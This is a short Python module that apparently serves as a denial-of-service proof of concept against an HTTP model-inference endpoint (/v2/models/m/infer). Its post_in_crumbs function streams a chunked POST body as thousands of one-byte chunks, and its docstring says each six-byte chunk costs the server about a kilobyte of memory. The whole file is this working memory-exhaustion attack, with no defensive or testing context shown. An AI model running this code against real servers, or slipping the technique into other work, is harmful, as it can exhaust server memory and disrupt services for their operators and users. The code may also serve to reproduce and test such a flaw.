"""An HTTP body of one-byte chunks: six bytes sent for each, a kilobyte of the server's memory."""

from __future__ import annotations

import socket
from typing import Final

CRUMB: Final = b"1\r\nx\r\n"
"""One byte of a body, as a chunk of its own."""
AT_ONCE: Final = 10_000
"""Crumbs in one write."""
PATIENCE_S: Final = 30.0


def post_in_crumbs(address: str, crumbs: int) -> bytes:
    """Send a body of so many bytes to HOST:PORT; the answer's first line."""
    with connect(address) as stream:
        stream.sendall(b"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\n")
        stream.sendall(b"Transfer-Encoding: chunked\r\n\r\n")
        for _ in range(crumbs // AT_ONCE):
            stream.sendall(CRUMB * AT_ONCE)
        stream.sendall(CRUMB * (crumbs % AT_ONCE) + b"0\r\n\r\n")
        return stream.recv(4096).partition(b"\r\n")[0]


def connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host.strip("[]"), int(port)), timeout=PATIENCE_S)
